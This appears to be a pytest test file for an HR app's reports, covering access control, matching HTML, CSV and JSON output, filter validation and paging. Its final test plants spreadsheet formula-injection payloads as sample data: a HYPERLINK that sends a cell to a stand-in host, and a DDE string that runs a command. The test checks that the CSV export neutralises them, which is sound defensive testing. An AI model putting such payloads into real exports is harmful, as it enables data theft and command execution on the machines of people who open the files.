"""The HTML pages, CSV downloads and API of every report: who may open them, bad
filters, and the three renderings carrying the same rows."""

import csv
import io
from datetime import date

import pytest

from people.models import RoleProfileSkill
from reports.registry import REPORTS
from reviews.enums import ReviewStatus as S
from tests import factories as f
from tests.conftest import bearer
from tests.reports.conftest import add_activity, add_need, add_review

SLUGS = sorted(REPORTS)


def _arrange(world, db):
    skill = f.make_skill(name="Writing")
    profile = f.make_role_profile(job_title="Agent")
    db.session.add(
        RoleProfileSkill(
            role_profile_id=profile.id, skill_id=skill.id, expected_level=3
        )
    )
    review = add_review(
        world,
        world.ana,
        reviewer=world.mona,
        overall=4,
        ratings=[4, 4, 4],
        obstacles=["tools_resources"],
    )
    add_review(
        world,
        world.dan,
        cycle=world.cycle,
        reviewer=world.olaf,
        overall=3,
        status=S.shared,
        obstacles=["workload"],
    )
    add_need(world.ana, skill, review=review, due_on=date(2026, 1, 1))
    add_need(world.dan, skill, named_on=date(2025, 1, 1))
    add_activity(world.cara, date(2026, 5, 1))
    db.session.commit()


@pytest.mark.parametrize("slug", SLUGS)
def test_an_employee_gets_403_everywhere(world, login_as, slug):
    client = login_as(world.ana)
    assert client.get(f"/reports/{slug}").status_code == 403
    assert client.get(f"/reports/{slug}.csv").status_code == 403
    response = client.get(f"/api/v1/reports/{slug}", headers=bearer(world.ana))
    assert response.status_code == 403


@pytest.mark.parametrize("actor", ["hr", "mona"])
def test_hr_and_managers_see_the_dashboard_and_the_nav_entry(world, login_as, actor):
    response = login_as(getattr(world, actor)).get("/reports")
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert ">Reports</a>" in body
    assert body.count('class="card report-card"') == len(REPORTS)


def test_employees_have_no_nav_entry_and_no_dashboard(world, login_as):
    client = login_as(world.ana)
    assert ">Reports</a>" not in client.get("/").get_data(as_text=True)
    assert client.get("/reports").status_code == 403


@pytest.mark.parametrize("slug", SLUGS)
def test_csv_and_json_carry_the_rows_of_the_html_page(world, login_as, db, slug):
    _arrange(world, db)
    client = login_as(world.hr)
    page = client.get(f"/reports/{slug}")
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    data = client.get(f"/api/v1/reports/{slug}", headers=bearer(world.hr)).get_json()
    download = client.get(f"/reports/{slug}.csv")
    assert download.mimetype == "text/csv"
    table = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
    assert table[0] == [c["label"] for c in data["columns"]]
    keys = [c["key"] for c in data["columns"]]
    as_text = [
        ["" if row[k] is None else str(row[k]) for k in keys] for row in data["rows"]
    ]
    assert table[1:] == as_text
    assert data["total"] == len(data["rows"]) > 0
    for row in data["rows"]:
        assert f">{row[keys[0]]}<" in body  # the first cell of each row is on the page
    assert body.count("<tr>") >= len(data["rows"]) + 1


def test_bad_filters_show_the_form_again_with_field_errors(world, login_as):
    client = login_as(world.hr)
    response = client.get("/reports/needs?from=2026-07-01&to=2026-01-01")
    assert response.status_code == 422
    assert 'id="to-error"' in response.get_data(as_text=True)
    response = client.get("/reports/needs?department_id=x")
    assert response.status_code == 422
    assert 'id="department_id-error"' in response.get_data(as_text=True)
    response = client.get("/reports/needs?department_id=999999")
    assert response.status_code == 422
    assert "No such department." in response.get_data(as_text=True)


def test_a_bad_filter_never_says_nothing_was_saved(world, login_as):
    """A report's filters save nothing: the summary says the filters failed."""
    client = login_as(world.hr)
    html = client.get("/reports/needs?department_id=x").get_data(as_text=True)
    assert "Nothing was saved" not in html
    assert "These filters could not be applied" in html
    assert "Enter a whole number." in html  # the plain message, on its field


def test_bad_filters_are_a_422_in_the_api(world, token_headers, login_as):
    headers = token_headers(world.hr)
    client = login_as(None)
    response = client.get(
        "/api/v1/reports/needs?cycle_id=1&from=2026-01-01", headers=headers
    )
    assert response.status_code == 422
    assert "cycle_id" in response.get_json()["errors"]
    response = client.get("/api/v1/reports/needs?cycle_id=424242", headers=headers)
    assert response.status_code == 422
    assert response.get_json()["errors"] == {"cycle_id": "No such cycle."}


def test_a_manager_filtering_on_another_department_gets_only_their_people(
    world, login_as, db
):
    _arrange(world, db)
    client = login_as(world.mona)
    data = client.get(
        f"/api/v1/reports/needs?department_id={world.sales.id}",
        headers=bearer(world.mona),
    ).get_json()
    assert data["rows"] == []
    data = client.get("/api/v1/reports/needs", headers=bearer(world.mona)).get_json()
    assert [r["department"] for r in data["rows"]] == ["Support"]


def test_the_api_pages_rows(world, login_as, db):
    _arrange(world, db)
    client = login_as(world.hr)
    data = client.get(
        "/api/v1/reports/learning?page=2&page_size=1", headers=bearer(world.hr)
    ).get_json()
    assert (data["total"], data["page"], len(data["rows"])) == (4, 2, 1)


def test_decision_evidence_csv_neutralises_spreadsheet_formulas(world, login_as, db):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    title = "+SUM(1+1)*cmd|' /C calc'!A0"
    f.make_person(name=name, job_title=title, department_id=world.support.id)
    f.make_person(name="@SUM(1+1)", job_title="-2+3", department_id=world.support.id)
    db.session.commit()
    download = login_as(world.hr).get("/reports/decision-evidence.csv")
    assert download.status_code == 200
    table = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
    cells = {(row[0], row[1]) for row in table[1:]}
    assert ("'" + name, "'" + title) in cells
    assert ("'@SUM(1+1)", "'-2+3") in cells
    starts = {cell[:1] for row in table for cell in row}
    assert not starts & {"=", "+", "@", "\t", "\r"}
